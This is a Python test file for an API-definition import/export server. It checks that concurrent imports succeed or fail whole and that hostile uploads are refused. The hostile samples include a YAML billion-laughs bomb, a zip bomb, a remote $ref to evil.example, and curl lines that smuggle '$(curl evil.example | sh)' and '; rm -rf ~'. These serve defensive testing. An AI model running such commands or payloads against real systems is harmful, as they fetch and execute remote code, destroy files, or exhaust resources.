"""Import and export through a real `callout serve`, on SQLite and on PostgreSQL, with
hundreds of imports at once: each is written whole or refused whole, clashing names are
renamed each to its own, and the library exported afterwards holds every API written."""

import asyncio
import io
import json
import zipfile
from collections import Counter
from collections.abc import AsyncIterator, Mapping
from pathlib import Path

import aiohttp
import pytest
import yaml

from tests.cli import KEY, callout, callout_serve, init, snapshot, wait_up

FILE = """callout: 1
name: {name}
base_url: https://crm.example.com/api
headers:
  - name: X-Api-Key
    secret: true
missing_secrets: [headers.x-api-key]
requests:
  - name: Get customer
    endpoint_path: customers/${{customerId}}
    parameters:
      - name: customerId
        required: true
  - name: Note
    method: POST
    content_type: json
    body: '{{"text": "${{text}}"}}'
    parameters:
      - name: text
"""


@pytest.fixture
async def served(
    tmp_path: Path, database_url: dict[str, str]
) -> AsyncIterator[tuple[str, aiohttp.ClientSession]]:
    data_dir = tmp_path / "data"
    init = callout(data_dir, "init", **database_url)
    key = KEY.search(init.stdout)
    assert key, init.stdout + init.stderr
    with callout_serve(data_dir, tmp_path / "serve.log", **database_url) as (server, root):
        await wait_up(root, server)
        async with aiohttp.ClientSession(
            headers={"Authorization": f"Bearer {key.group(0)}"},
            timeout=aiohttp.ClientTimeout(total=120),
            connector=aiohttp.TCPConnector(limit=0),
        ) as session:
            yield f"{root}/api/v1/clients/demo", session


async def _import(
    session: aiohttp.ClientSession, url: str, text: str, **params: str
) -> tuple[int, dict[str, object]]:
    async with session.post(f"{url}/import", data=text.encode(), params=params) as response:
        return response.status, await response.json(content_type=None)


async def test_hundreds_of_imports_at_once_each_write_whole_and_export_back(
    served: tuple[str, aiohttp.ClientSession],
) -> None:
    url, session = served
    distinct = [FILE.format(name=f"CRM {i}") for i in range(200)]
    same = [FILE.format(name="Shared CRM")] * 50
    bad = FILE.format(name="Broken").replace("method: POST", "method: FETCH")

    answers = await asyncio.gather(
        *(_import(session, url, text) for text in distinct),
        *(_import(session, url, text, clash="rename") for text in same),
        *(_import(session, url, bad) for _ in range(20)),
    )

    statuses = Counter(status for status, _ in answers)
    assert set(statuses) <= {201, 422, 503}, statuses
    assert all(status == 422 for status, _ in answers[250:]), statuses
    written = [body for status, body in answers[:250] if status == 201]
    assert len(written) >= 200, statuses  # a few may be refused as busy (503), none fails
    names = [api["name"] for body in written for api in body["apis"]]  # type: ignore[attr-defined]
    assert len(names) == len(set(names)), "two imports wrote the same name"
    shared = sorted(n for n in names if n.startswith("Shared CRM"))
    assert shared[0] == "Shared CRM"
    assert all(api["missing_secrets"] for body in written for api in body["apis"])  # type: ignore[attr-defined]

    async with session.get(f"{url}/export") as response:
        assert response.status == 200
        library = zipfile.ZipFile(io.BytesIO(await response.read()))
    exported = {yaml.safe_load(library.read(n))["name"] for n in library.namelist()}
    assert set(names) <= exported
    assert "Broken" not in exported

    api_id = next(api["id"] for api in written[0]["apis"])  # type: ignore[attr-defined]
    async with session.get(f"{url}/apis/{api_id}/export") as response:
        text = await response.text()
    assert yaml.safe_load(text)["requests"][1]["body"] == '{"text": "${text}"}'


def _zip_bomb() -> bytes:
    """A 100 KB zip whose one entry expands to 100 MB."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("crm.yaml", b"#" * (100 * 1024 * 1024))
    return buffer.getvalue()


def _openapi(get: dict[str, object], components: Mapping[str, object] | None = None) -> str:
    document = {
        "openapi": "3.1.0",
        "info": {"title": "Shop", "version": "1"},
        "servers": [{"url": "https://shop.example.com"}],
        "paths": {"/pets": {"get": {**get, "responses": {"200": {"description": "OK"}}}}},
        "components": components or {},
    }
    return json.dumps(document)


LOOP = {
    "parameters": {
        "A": {"$ref": "#/components/parameters/B"},
        "B": {"$ref": "#/components/parameters/A"},
    }
}


def _hostile() -> dict[str, tuple[bytes, int, str]]:
    """Each hostile file, the status it is refused with and words of its error."""
    return {
        "billion laughs": (
            "\n".join(
                ["a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
                + [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 9)]
            ).encode(),
            422,
            "upload: expands to more than 5,000,000 values (YAML aliases?)",
        ),
        "10,000 deep": (b"[" * 10_000 + b"]" * 10_000, 422, "upload: nests deeper than 100 levels"),
        "50 MB": (
            b'{"openapi": "3.1.0", "padding": "' + b"x" * (50 * 1024 * 1024) + b'"}',
            413,
            "the request body is larger than 33,554,432 bytes, the most this route takes",
        ),
        "zip bomb": (_zip_bomb(), 422, "upload: expands to more than 33,554,432 bytes"),
        "truncated": (
            _openapi({"operationId": "list"}).encode()[:80],
            422,
            "is neither JSON nor YAML",
        ),
        "$ref loop": (
            _openapi({"parameters": [{"$ref": "#/components/parameters/A"}]}, LOOP).encode(),
            422,
            "$ref leads back to itself",
        ),
        "remote $ref": (
            _openapi({"parameters": [{"$ref": "https://evil.example/p.json"}]}).encode(),
            422,
            "points to another file or URL",
        ),
        "shell metacharacters": (
            b"curl https://crm.example.com/api/$(curl evil.example | sh)",
            422,
            "a shell would run the command in $(...); nothing is run",
        ),
        "shell operators": (
            b"curl https://crm.example.com/api; rm -rf ~",
            422,
            "upload: line 1, column 33: one curl command, no shell operators: ; outside quotes",
        ),
    }


async def test_hostile_files_at_once_are_each_refused_clearly_and_change_nothing(
    tmp_path: Path,
) -> None:
    hostile_files = _hostile()
    installation = init(tmp_path)
    with callout_serve(installation.data_dir, tmp_path / "serve.log") as (server, root):
        await wait_up(root, server)
        url = f"{root}/api/v1/clients/demo"
        async with aiohttp.ClientSession(
            headers={"Authorization": f"Bearer {installation.admin_key}"},
            timeout=aiohttp.ClientTimeout(total=120),
            connector=aiohttp.TCPConnector(limit=0),
        ) as session:
            assert (await _import(session, url, FILE.format(name="CRM")))[0] == 201
            before = snapshot(installation.data_dir)

            async def hostile(name: str) -> tuple[str, int, str]:
                data, _, _ = hostile_files[name]
                async with session.post(f"{url}/import", data=io.BytesIO(data)) as response:
                    return name, response.status, (await response.json())["detail"]

            # Each hostile file 10 times over, at once (the 50 MB one twice), beside good
            # dry runs: every one refused on its own, the server answering throughout.
            names = [name for name in hostile_files for _ in range(2 if name == "50 MB" else 10)]
            answers, dry_runs = await asyncio.gather(
                asyncio.gather(*(hostile(name) for name in names)),
                asyncio.gather(
                    *(
                        _import(session, url, FILE.format(name="New"), dry_run="true")
                        for _ in range(50)
                    )
                ),
            )
            for name, status, detail in answers:
                _, expected_status, expected = hostile_files[name]
                assert (status, expected in detail) == (expected_status, True), (name, detail)
            assert {status for status, _ in dry_runs} == {200}
            assert server.poll() is None

    assert snapshot(installation.data_dir) == before
